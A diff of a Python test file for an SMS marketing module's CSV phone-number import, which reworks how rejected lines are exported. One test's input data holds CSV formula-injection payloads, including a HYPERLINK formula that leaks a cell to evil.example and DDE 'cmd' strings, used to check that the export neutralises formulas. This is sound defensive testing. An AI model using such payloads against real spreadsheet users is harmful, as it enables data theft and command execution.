@@ -1,7 +1,9 @@
 # Part of sms_marketing_ext. License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
 import base64
+import codecs
 import csv
 import io
+import itertools
 import logging
 import time
 from unittest.mock import patch
@@ -68,11 +70,11 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
         subscriptions = self.env["mailing.subscription"].search([("list_id", "=", mailing_list.id)])
         return set(subscriptions.contact_id.mapped("phone_sanitized"))
 
-    def _rejected_rows(self, wizard):
+    def _rejected_rows(self, wizard, delimiter=","):
         attachment = wizard.rejected_attachment_id
         self.assertTrue(attachment)
         self.assertEqual(attachment.mimetype, "text/csv")
-        return list(csv.reader(io.StringIO(attachment.raw.decode("utf-8-sig"))))
+        return list(csv.reader(io.StringIO(attachment.raw.decode("utf-8-sig")), delimiter=delimiter))
 
     # ------------------------------------------------------------------
 
@@ -145,12 +147,11 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
 
         self.assertEqual(
             self._rejected_rows(wizard),
-            [
-                ["line", "value", "reason"],
-                ["4", "hello", "not a phone number"],
-                ["5", "06 12", "invalid number for France"],
-                ["6", "0612345678", "duplicate of line 1"],
-                ["9", "'+999 123 456", "unknown international prefix"],  # no formula (OWASP)
+            [  # no header row, as in the file: its one column, then the line and the reason
+                ["hello", "4", "not a phone number"],
+                ["06 12", "5", "invalid number for France"],
+                ["0612345678", "6", "duplicate of line 1"],
+                ["'+999 123 456", "9", "unknown international prefix"],  # no formula (OWASP)
             ],
         )
         self.assertEqual(wizard.rejected_attachment_id.res_model, "mailing.list")
@@ -223,8 +224,12 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
         self.assertEqual(by_name["Dan"].country_id, self.us)
         self.assertEqual(by_name["Eve"].country_id, self.fr)
         self.assertEqual(
-            self._rejected_rows(wizard)[1:],
-            [["7", "0612345678", "invalid number for Belgium"], ["8", "0612345678", "unknown country “XX”"]],
+            self._rejected_rows(wizard),
+            [
+                ["Name", "Mobile", "Country", "line", "reason"],
+                ["Fred", "0612345678", "BE", "7", "invalid number for Belgium"],
+                ["Gina", "0612345678", "XX", "8", "unknown country “XX”"],
+            ],
         )
 
     def test_no_default_country(self):
@@ -232,7 +237,7 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
         wizard.country_id = False
         wizard.action_import()
         self.assertEqual(self._list_numbers(), {"+33612345601"})
-        self.assertIn("no international prefix", self._rejected_rows(wizard)[1][2])
+        self.assertIn("no international prefix", self._rejected_rows(wizard)[0][2])
 
     def test_existing_contact_reused(self):
         contact = self.env["mailing.contact"].create({"name": "Known", "mobile": "+33 6 55 44 33 22"})
@@ -284,7 +289,7 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
         self.assertEqual(self._list_numbers(), {"+33610000001"})
         rejected = self._rejected_rows(wizard)
         # The rejected-lines file neutralises formulas: a leading "+" gets a quote (issue 11 §6).
-        self.assertEqual(rejected[1][1:], ["'+33 1 42 68 53 00", "not a mobile number: a landline cannot receive SMS"])
+        self.assertEqual(rejected, [["'+33 1 42 68 53 00", "2", "not a mobile number: a landline cannot receive SMS"]])
 
     def test_download_rejected_from_preview(self):
         wizard = self._wizard("06 10 00 00 01\nnope\n")
@@ -293,7 +298,7 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
         self.assertEqual(action["type"], "ir.actions.act_url")
         attachment_id = int(action["url"].split("/")[3].split("?")[0])
         attachment = self.env["ir.attachment"].browse(attachment_id)
-        self.assertEqual(attachment.raw.decode("utf-8-sig"), "line,value,reason\n2,nope,not a phone number\n")
+        self.assertEqual(attachment.raw.decode("utf-8-sig"), "nope,2,not a phone number\n")
 
     def test_file_errors(self):
         cases = [
@@ -333,22 +338,160 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
         wizard = self._wizard(content)
         wizard.action_import()
         self.assertEqual(self._list_numbers(), {"+33612345678"})
-        rows = self._rejected_rows(wizard)
+        rows = self._rejected_rows(wizard, delimiter=";")
         self.assertEqual(
             rows,
             [
-                ["line", "value", "reason"],
-                ["3", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "not a phone number"],
-                ["4", "'@SUM(1+1)*cmd|' /C calc'!A0", "not a phone number"],
-                ["5", "'-2+3+cmd|' /C calc'!A0", "not a phone number"],
-                ["6", "'+33 6 12 34 56 78", "duplicate of line 2"],
-                ["7", "'=1+1", "not a phone number"],
-                ["8", "06 12 34 56 79", "unknown country “=cmd”"],
+                ["number", "name", "country", "line", "reason"],
+                ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "Eve", "", "3", "not a phone number"],
+                ["'@SUM(1+1)*cmd|' /C calc'!A0", "Eve", "", "4", "not a phone number"],
+                ["'-2+3+cmd|' /C calc'!A0", "Eve", "", "5", "not a phone number"],
+                ["'+33 6 12 34 56 78", "Bob", "", "6", "duplicate of line 2"],
+                ["'=1+1", "Eve", "", "7", "not a phone number"],
+                ["06 12 34 56 79", "Eve", "'=cmd", "8", "unknown country “=cmd”"],
             ],
         )
         for row in rows:
             for cell in row:
                 self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula cell {cell!r}")
+
+    def test_rejected_lines_keep_columns_and_separator(self):
+        """Issue 13 §7: the rejected-lines file keeps every column of the rejected lines, in the
+        input's separator, under its header when it has one, then the line and the reason; read
+        back by the importer, its cells are the input's, guard apostrophes stripped."""
+        from ..tools.sms_number_file import NumberFile
+
+        header = ["Mobile", "Name", "City", "Note"]
+        lines = [
+            ["06 10 00 00 01", "Ada", "Paris", "ok"],  # 2 valid
+            ["+33 1 42 68 53 00", "Bob; the \"boss\"", "Lyon", "=1+1"],  # 3 landline, a separator and quotes
+            ["06 10 00 00 01", "Cy, Jr", "Nice", "-x"],  # 4 duplicate of line 2
+            ["nope", "Dee\tTab", "", "@x"],  # 5 not a number, a tab inside a cell
+            ["06 12", "Eve"],  # 6 invalid, a short line (padded in the output)
+        ]
+        rejected = lines[1:]  # as written
+        for delimiter, with_header, bom in itertools.product((";", ",", "\t"), (True, False), (False, True)):
+            with self.subTest(delimiter=delimiter, header=with_header, bom=bom):
+                text = io.StringIO()
+                writer = csv.writer(text, delimiter=delimiter, lineterminator="\n")
+                if with_header:
+                    writer.writerow(header)
+                writer.writerows(lines)
+                content = text.getvalue().encode("utf-8-sig" if bom else "utf-8")
+                # The cells as the importer reads them (blanks and surrounding quotes stripped).
+                read = [row.cells for row in NumberFile(content)]
+                self.assertEqual(len(read), 5)
+                mailing_list = self.env["mailing.list"].create({"name": f"Rejected {delimiter!r} {with_header} {bom}"})
+                wizard = self._wizard(content, mailing_list=mailing_list)
+                wizard.action_import()
+                self.assertEqual((wizard.new_count, wizard.rejected_count, wizard.duplicate_count), (1, 3, 1))
+                raw = wizard.rejected_attachment_id.raw
+                self.assertEqual(raw.count(codecs.BOM_UTF8), 1, "one BOM, at the start, none from the input")
+                rows = self._rejected_rows(wizard, delimiter=delimiter)
+                offset = 2 if with_header else 1
+                reasons = [
+                    "not a mobile number: a landline cannot receive SMS",
+                    f"duplicate of line {offset}",
+                    "not a phone number",
+                    "invalid number for France",
+                ]
+                expected = [
+                    [*cells, *[""] * (4 - len(cells)), str(index + offset + 1), reason]
+                    for index, (cells, reason) in enumerate(zip(read[1:], reasons, strict=True))
+                ]
+                formula = ("=", "+", "-", "@")
+                guarded = [[("'" + cell) if cell.startswith(formula) else cell for cell in row] for row in expected]
+                self.assertEqual(rows, [[*header, "line", "reason"], *guarded] if with_header else guarded)
+                # The file imports back as it was: same separator, same header, same cells.
+                again = NumberFile(raw)
+                self.assertEqual(again.delimiter, delimiter)
+                self.assertEqual(again.header, [*header, "line", "reason"] if with_header else None)
+                self.assertEqual([row.cells for row in again], expected)
+                self.assertEqual([row.number for row in again], [cells[0] for cells in rejected])
+                self.assertEqual(expected[0][1], 'Bob; the "boss', "a separator inside a cell stays in it")
+
+    def test_preview_then_import_reads_the_file_once(self):
+        """The import after a preview starts from the lines the preview read (no phone parsed again),
+        but looks the database up again; a new file or country makes it read the file again."""
+        from ..tools import sms_phone
+
+        content = "number;name\n06 10 00 00 01;Ada\n06 10 00 00 02;Bob\nnope;Cy\n06 10 00 00 01;Dup\n"
+        wizard = self._wizard(content)
+        with patch.object(sms_phone, "normalize_sms", wraps=sms_phone.normalize_sms) as parse:
+            wizard.action_preview()
+            self.assertEqual(parse.call_count, 3, "one parse per distinct number")
+            self.assertTrue(wizard.staged_file)
+            self.assertEqual((wizard.new_count, wizard.blacklisted_count), (2, 0))
+            # Between the preview and the import, the number of Bob is blacklisted and subscribed.
+            self.env["phone.blacklist"].create({"number": "+33610000002"})
+            bob = self.env["mailing.contact"].create({"name": "Bob", "mobile": "+33610000002"})
+            self.mailing_list.contact_ids = [(4, bob.id)]
+            wizard.action_download_rejected()
+            wizard.action_import()
+            self.assertEqual(parse.call_count, 3, "the import parsed nothing again")
+        self.assertEqual(
+            self._counts(wizard),
+            {
+                "line_count": 4,
+                "new_count": 1,
+                "existing_count": 1,
+                "duplicate_count": 1,
+                "rejected_count": 1,
+                "blank_count": 0,
+                "blacklisted_count": 1,
+            },
+        )
+        self.assertEqual(self._list_numbers(), {"+33610000001", "+33610000002"})
+        self.assertEqual(
+            self._rejected_rows(wizard, delimiter=";"),
+            [["number", "name", "line", "reason"], ["nope", "Cy", "4", "not a phone number"],
+             ["06 10 00 00 01", "Dup", "5", "duplicate of line 2"]],
+        )
+        self.assertFalse(wizard.staged_file, "the import drops the staged lines")
+        self.env.cr.execute("SELECT count(*) FROM mailing_list_sms_import_staging WHERE wizard_id = %s", [wizard.id])
+        self.assertEqual(self.env.cr.fetchone()[0], 0)
+
+        # A new file after the preview: the import reads it, not the staged lines.
+        other = self.env["mailing.list"].create({"name": "Other"})
+        wizard = self._wizard("06 10 00 00 03\n", mailing_list=other)
+        wizard.action_preview()
+        wizard.action_back()
+        wizard.file_data = base64.b64encode(b"06 10 00 00 04\n06 10 00 00 05\n")
+        self.assertFalse(wizard.staged_file)
+        wizard.action_import()
+        self.assertEqual(self._list_numbers(other), {"+33610000004", "+33610000005"})
+        # A new default country too.
+        third = self.env["mailing.list"].create({"name": "Third"})
+        wizard = self._wizard("0470 12 34 56\n", mailing_list=third)
+        wizard.action_preview()
+        self.assertEqual(wizard.rejected_count, 1, "not a French number")
+        wizard.country_id = self.be
+        wizard.action_import()
+        self.assertEqual(self._list_numbers(third), {"+32470123456"})
+
+    def test_file_read_in_chunks(self):
+        """The file is read from the database in chunks, as b64decode reads the whole value: for
+        any chunk size, with line breaks in the base64 text (as base64.encodebytes writes it)."""
+        from ..wizard import mailing_list_sms_import as module
+
+        data = "".join(f"{french_mobile(index)};Nom {index} é\n" for index in range(300)).encode()
+        for encode in (base64.b64encode, base64.encodebytes):
+            wizard = self._wizard(b"x")
+            wizard.file_data = encode(data)
+            for chunk in (4, 8, 76, 1 << 22):
+                with self.subTest(encode=encode.__name__, chunk=chunk), patch.object(module, "FILE_CHUNK", chunk):
+                    self.assertEqual(wizard._file_bytes(), data)
+        wizard.file_data = base64.b64encode(data)[:-1]  # truncated
+        with self.assertRaises(ValueError):
+            wizard._file_bytes()
+
+    def test_staged_lines_dropped_with_the_wizard(self):
+        wizard = self._wizard("06 10 00 00 01\n")
+        wizard.action_preview()
+        wizard_id = wizard.id
+        wizard.unlink()
+        self.env.cr.execute("SELECT count(*) FROM mailing_list_sms_import_staging WHERE wizard_id = %s", [wizard_id])
+        self.assertEqual(self.env.cr.fetchone()[0], 0)
 
     def test_streamed_in_chunks(self):
         """Duplicates, rejected lines and existing contacts are found across the chunks the file is
@@ -374,7 +517,7 @@ class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
             wizard.action_preview()
             self.assertIn("and 6 more", wizard.preview_html)
             wizard.action_import()
-        rejected = [row[0] for row in self._rejected_rows(wizard)[1:]]
+        rejected = [row[1] for row in self._rejected_rows(wizard)]
         self.assertEqual(rejected, sorted(bad + duplicates, key=int))
         self.assertEqual((wizard.rejected_count, wizard.duplicate_count), (len(bad), len(duplicates)))
         valid = {f"+336{french_mobile(index)[3:].replace(' ', '')}" for index in range(23)
